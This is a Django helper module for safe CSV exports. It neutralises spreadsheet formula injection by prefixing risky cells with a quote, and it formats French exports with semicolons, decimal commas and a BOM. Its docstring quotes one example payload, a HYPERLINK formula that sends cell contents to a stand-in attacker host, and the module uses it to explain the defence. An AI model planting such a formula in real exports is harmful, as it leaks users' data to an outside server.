"""CSV cells a spreadsheet will show as text, never run as a formula (CSV/formula injection).

Excel, LibreOffice and Google Sheets treat a cell starting with = + - @ (and, after a tab or a
carriage return, the same) as a formula: ``=HYPERLINK("https://evil.example/?"&A1,"Click")``
would send a researcher's other cells away. OWASP's advice is to prefix such a cell with a
single quote, which the spreadsheet shows as plain text.
"""

import csv
from dataclasses import dataclass

from django.http import HttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value) -> str:
    """Text for a CSV cell that a spreadsheet will not run as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


# --- CSV for the reader's spreadsheet --------------------------------------------------------
# French Excel opens a CSV with the system's list separator (";" where the decimal mark is a
# comma) and, without a byte-order mark, reads it as Windows-1252: "é" becomes "Ã©". So a French
# export starts with the UTF-8 BOM, separates cells with ";" and writes "3,5" for 3.5. English
# exports stay plain comma-separated UTF-8 with a decimal point, as before.

UTF8_BOM = "\ufeff"


@dataclass(frozen=True)
class CsvFormat:
    delimiter: str
    decimal: str
    bom: str

    def number(self, value, digits: int | None = None) -> str:
        """``value`` with this format's decimal mark ("" for None); ``digits`` fixes decimals."""
        if value is None or value == "":
            return ""
        text = f"{float(value):.{digits}f}" if digits is not None else str(value)
        return text.replace(".", self.decimal)


ENGLISH_CSV = CsvFormat(delimiter=",", decimal=".", bom="")
FRENCH_CSV = CsvFormat(delimiter=";", decimal=",", bom=UTF8_BOM)


def csv_format(language: str | None) -> CsvFormat:
    """The spreadsheet format of ``language`` ("fr" → French Excel; anything else as before)."""
    return FRENCH_CSV if (language or "").split("-")[0] == "fr" else ENGLISH_CSV


def csv_response(filename: str, fmt: CsvFormat):
    """An attachment response and a csv.writer on it, in ``fmt``."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write(fmt.bom)
    return response, csv.writer(response, delimiter=fmt.delimiter)
